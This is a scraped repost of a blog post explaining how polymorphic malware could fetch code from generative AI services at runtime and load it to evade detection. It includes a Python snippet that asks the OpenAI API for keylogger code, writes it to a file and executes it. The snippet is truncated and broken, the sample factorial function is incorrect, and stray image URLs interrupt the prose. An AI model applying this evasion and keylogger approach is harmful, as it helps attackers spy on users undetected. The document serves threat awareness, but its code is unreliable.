Polymorphic Malware Using #AI
2023-5-25 20:41:14 Author: marcoramilli.com(查看原文) 阅读量:30 收藏

In the ever-evolving landscape of cybersecurity, malicious actors constantly seek new ways to infiltrate computer systems, wreak havoc, and exploit vulnerabilities. One of their most insidious tools is polymorphic malware, a shape-shifting threat that challenges traditional defense mechanisms and poses a formidable challenge to organizations and individuals alike. In this blog post I will investigate how attackers could abuse the usage of artificial intelligence in order to enhance polymorphism. This entire post gets inspired by Building BlackMamba a great work made by Hays.com.


Polymorphic malware is a sophisticated class of malicious software designed to mutate its code while preserving its core functionality. It achieves this by employing various obfuscation techniques that alter its appearance with each iteration, making detection and analysis a daunting task for even the most advanced security systems.

The term “polymorphic” stems from the Greek words “poly” meaning many and “morphe” meaning form. Much like a chameleon changes its color to blend into its surroundings, polymorphic malware adapts its structure, characteristics, and even its digital signature to camouflage itself fromdetection. This dynamic nature allows it to bypass traditional antivirus solutions, intrusion detection systems, and other security measures that rely on static signatures or patterns.

The primary objective of polymorphic malware is to remain undetected during the initial infection stage and persistently evade subsequent security measures. By constantly changing its code and behavior, it can effectively deceive security solutions, prolong its stay within the target system, and establish a foothold for carrying out malicious activities such as data theft, remote control, or launching further attacks.

To achieve its shape-shifting capabilities, polymorphic malware employs a range of techniques, including encryption, code obfuscation, self-modification, and randomization. Encryption is commonly used to encrypt the core payload, making it difficult for security solutions to analyze or identify the underlying malicious code. Code obfuscation techniques, such as instruction reordering or inserting meaningless instructions, further complicate the analysis process by generating multiple versions of the malware that all achieve the same outcome.

Generative Artificial Intelligence and Code Writing

Traditionally, coding was the exclusive domain of human programmers who painstakingly crafted lines of code to bring software applications to life. However, with the advent of generative AI, the process of code writing has undergone a profound evolution. By leveraging the power of deep learning and neural networks, AI models can now analyze vast amounts of existing code and generate new, functional code that exhibits the same logic and structure as thatwritten by humans.

One of the fundamental principles behind generative AI’s ability to write code lies in its capacity to understand patterns, logic, and syntax within existing codebases. By training on vast repositories of open-source code, AI models can learn to recognize and mimic the underlying structure and style thatcharacterizes human-written code. This remarkable feat is made possible by neural networks’ ability to capture the essence of programming languages and generalize it into a set ofrules and patterns.

To illustrate the power of generative AI in code writing, let’s consider a simple example. Imagine we want to generate a Python function that calculates the factorial of a given number. Traditionally, a human programmer would write a function like this:

def factorial(n):
    if n == 0:
        return 1
        return n * factorial(n-1)

Now, let’s observe how generative AI can generate a function with similar functionality:

def factorial(n):
    result = 1
    while n > 0:
        result *= n
        n -= 1
    returnresult

In this example, the generative AI model has successfully learned the concept of a factorial function and its iterative implementation. While the generated code may differ slightly from the human-written code, the essential logic and behavior remain intact.

Polymorphic AI Generated Code

The combination of Polymorphism and artificial intelligence’s code generation capabilities opens up the potential for creating highly evasive malware. Take a look at the following code snippet (excerpted from source HERE) to understand this concept better. Imagine a malware that dynamically reaches out to reputable domains known for offering generative intelligence, like openai.com or google.com, and requests the creation of specific functionalities in well-formed code.

Subsequently, the malware can import the generated code using reflection or dynamic loading functions. This approach ensures that the malicious code, being automatically generated, doesn’t reside within the infected artifact itself, making it virtually undetectable by traditional defensive systems. By leveraging this technique, malware gains a level of transparency that evades detection and poses a significant challenge for security measures. One more explicit code would be the follwoing one:

import openai
import keyboard

# Set up your OpenAI API credentials
openai.api_key = 'YOUR_API_KEY'

# Function to generate the keylogger code using OpenAI API
def generate_keylogger_code():
    prompt = "import keyboard\n\nkeyboard.on_press(lambda event: print(event.name))\nkeyboard.wait()"

    response = openai.Completion.create(

    returnresponse.choices[0].text.strip()

# Generate the keylogger code using OpenAI API
keylogger_code = generate_keylogger_code()

# Save the code to a file
with open('keylogger.py', 'w') as file:

# Run the keylogger code

In this specific case the attacker is leveraging the power of OpenAI’s GPT-3.5 model, specifically the davinci-codex engine, to generate a keylogger code. A keylogger is a program that records keystrokes on a computer, which can be useful for various purposes such as monitoring or debugging. We’ll walk through the code step by step and explain how each component works.

Setting Up OpenAI API Credentials: Before we dive into the code, make sure you have your OpenAI API credentials ready. You’ll need an API key to authenticate your requests to the OpenAI API. Replace the placeholder 'YOUR_API_KEY' in the code with your actual API key.

Generating the Keylogger Code: The heart of this code lies in the generate_keylogger_code() function. It utilizes the OpenAI API to generate the keylogger code based on a provided prompt. The prompt in this case is a basic code snippet that uses the keyboard library to capture key presses and print them to the console. The function sends this prompt to the OpenAI API and retrieves a completion, which is the generated keylogger code.

To use the OpenAI API, we create a Completion object by calling openai.Completion.create(). We specify the engine as ‘davinci-codex’, which is the language model we want to use. The prompt parameter contains the code snippet to generate the keylogger code. Other parameters, such as max_tokens and temperature, control the length and randomness of the generated completion.

Saving the Keylogger Code: Once we have the keylogger code, we save it to a file named 'keylogger.py' using a with statement and the write() method. This step allows us to store the generated code for later use or modifications.

Running the Keylogger: The final step is to execute the generated keylogger code using the exec() function. This runs the code within the current Python environment, activating the keylogger functionality. Be cautious when running keyloggers and ensure you comply with legal and ethical considerations.


In conclusion, the utilization of AI generative code empowers attackers to enhance their proficiency and velocity in crafting rapid and moresophisticated evasive code. This newfound power poses significant challenges in the realm of cybersecurity. It is crucial for defenders to stay ahead of the curve by continuously enhancing their defensive strategies andadopting advanced techniquesto mitigate the evolving threat landscape posed by AI-driven malicious code. Vigilance, proactive measures, andongoing research anddevelopment are imperative to safeguarding critical systems and data from the escalating risks presented by AI-enabled attacks.

Ethical Hacking, Advanced Targeted Attack Expert and Malware EvasionExpert

文章来源:https://marcoramilli.com/2023/05/25/polymorphic-malware-using-ai/